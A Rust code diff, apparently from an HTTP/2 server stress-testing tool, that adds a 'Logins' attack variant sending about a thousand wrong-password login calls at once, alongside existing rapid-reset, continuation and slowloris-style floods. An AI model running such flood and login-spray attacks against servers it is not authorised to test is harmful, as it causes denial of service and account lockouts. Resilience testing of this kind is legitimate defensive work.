@@ -9,7 +9,7 @@ use std::{
 
 use super::frames::{
     CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
-    WINDOW_UPDATE, bomb, call, frame, greeting,
+    WINDOW_UPDATE, bomb, call, frame, greeting, login,
 };
 
 /// Octets that are written at a time.
@@ -42,10 +42,12 @@ pub enum Attack {
     Idle,
     /// Calls of which a whole message never comes.
     SlowCalls,
+    /// Logins with a wrong password, a thousand at once.
+    Logins,
 }
 
 impl Attack {
-    /// All of them.
+    /// All that need nothing of the server's configuration.
     pub const ALL: [Self; 10] = [
         Self::RapidReset,
         Self::Continuation,
@@ -110,6 +112,11 @@ impl Attack {
                     let stream = next();
                     frame(&mut octets, HEADERS, END_HEADERS, stream, &call());
                     frame(&mut octets, DATA, 0, stream, &[0, 0, 0, 255, 255, 0]);
+                }
+                Self::Logins => {
+                    let stream = next();
+                    frame(&mut octets, HEADERS, END_HEADERS, stream, &login());
+                    frame(&mut octets, DATA, END_STREAM, stream, &[0; 5]);
                 }
                 Self::Slowloris | Self::Idle => break,
             }
